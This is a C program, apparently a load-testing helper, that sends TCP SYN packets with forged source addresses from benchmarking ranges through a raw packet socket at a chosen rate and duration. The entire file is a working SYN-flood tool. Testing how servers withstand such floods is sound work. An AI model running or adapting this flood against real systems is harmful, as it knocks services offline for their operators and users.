/* SYNs from made-up sources, at a rate, for a while, by a packet socket:
 *
 *     synflood IFACE OWN-MAC SERVER-MAC SERVER PORT SOURCES RATE SECONDS
 *
 * The sources are of 198.18.0.0/15 or 2001:2::/48, which are nobody's (RFC 2544, RFC 5180). Prints how many were sent. */
#include "t.h"
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>

enum { BATCH = 50 };

static uint32_t sum(const void *bytes, int len, uint32_t s) {
    const uint8_t *b = bytes;
    for (int n = 0; n + 1 < len; n += 2)
        s += b[n] << 8 | b[n + 1];
    return s;
}

static uint16_t folded(uint32_t s) {
    while (s >> 16)
        s = (s & 0xffff) + (s >> 16);
    return htons(~s & 0xffff);
}

static void mac(const char *text, uint8_t *to) {
    unsigned v[6];
    if (sscanf(text, "%x:%x:%x:%x:%x:%x", v, v + 1, v + 2, v + 3, v + 4, v + 5) != 6)
        die("a MAC address");
    for (int n = 0; n < 6; n++)
        to[n] = v[n];
}

/* A SYN with an MSS, as Linux's are; its length. */
static int make(uint8_t *f, const uint8_t *macs, const struct sockaddr_in *to, uint32_t source, uint32_t seq) {
    int six = to->sin_family == AF_INET6;
    uint8_t *ip = f + 14, *tcp = ip + (six ? 40 : 20);
    memcpy(f, macs, 12);
    memcpy(f + 12, six ? "\x86\xdd" : "\x08\x00", 2);
    uint32_t s = 6 + 24;
    if (six) {
        memcpy(ip, "\x60\0\0\0\0\x18\6\x40", 8);
        memcpy(ip + 8, "\x20\1\0\2\0\0\0\0\0\0\0\0", 12);
        memcpy(ip + 20, &(uint32_t){htonl(source)}, 4);
        memcpy(ip + 24, to->v6.sin6_addr.s6_addr, 16);
        s = sum(ip + 8, 32, s);
    } else {
        memcpy(ip, "\x45\0\0\x2c\0\1\x40\0\x40\6\0\0", 12);
        memcpy(ip + 12, &(uint32_t){htonl(0xc6120000 + source)}, 4);
        memcpy(ip + 16, &to->sin_addr, 4);
        uint16_t head = folded(sum(ip, 20, 0));
        memcpy(ip + 10, &head, 2);
        s = sum(ip + 12, 8, s);
    }
    memset(tcp, 0, 24);
    memcpy(tcp, &(uint16_t){htons(1024 + seq % 60000)}, 2);
    memcpy(tcp + 2, &to->sin_port, 2);
    memcpy(tcp + 4, &(uint32_t){htonl(seq * 2654435761u)}, 4);
    memcpy(tcp + 12, "\x60\2\xff\xff", 4);
    memcpy(tcp + 20, "\2\4\5\xb4", 4);
    uint16_t check = folded(sum(tcp, 24, s));
    memcpy(tcp + 16, &check, 2);
    return tcp + 24 - f;
}

static double now(void) {
    struct timespec t;
    clock_gettime(CLOCK_MONOTONIC, &t);
    return t.tv_sec + t.tv_nsec / 1e9;
}

int main(int argc, char **argv) {
    if (argc != 9)
        die("synflood IFACE OWN-MAC SERVER-MAC SERVER PORT SOURCES RATE SECONDS");
    uint8_t macs[12];
    mac(argv[3], macs);
    mac(argv[2], macs + 6);
    struct sockaddr_in to = address_of(argv[4], atoi(argv[5]));
    unsigned sources = atoi(argv[6]);
    double rate = atof(argv[7]), begin = now(), end = begin + atof(argv[8]);
    int fd = MUST(socket(AF_PACKET, SOCK_RAW, 0));
    struct sockaddr_ll link = {.sll_family = AF_PACKET, .sll_ifindex = if_nametoindex(argv[1])};
    MUST(bind(fd, (struct sockaddr *)&link, sizeof link));
    static uint8_t frames[BATCH][128];
    struct mmsghdr messages[BATCH];
    struct iovec pieces[BATCH];
    memset(messages, 0, sizeof messages);
    long sent = 0;
    uint32_t seq = 1;
    while (now() < end) {
        if (sent > (now() - begin) * rate) {
            nap(1);
            continue;
        }
        for (int n = 0; n < BATCH; n++, seq++) {
            pieces[n] = (struct iovec){frames[n], make(frames[n], macs, &to, seq % sources, seq)};
            messages[n].msg_hdr.msg_iov = &pieces[n];
            messages[n].msg_hdr.msg_iovlen = 1;
        }
        int r = sendmmsg(fd, messages, BATCH, 0);
        if (r > 0)
            sent += r;
    }
    printf("%ld\n", sent);
    return 0;
}
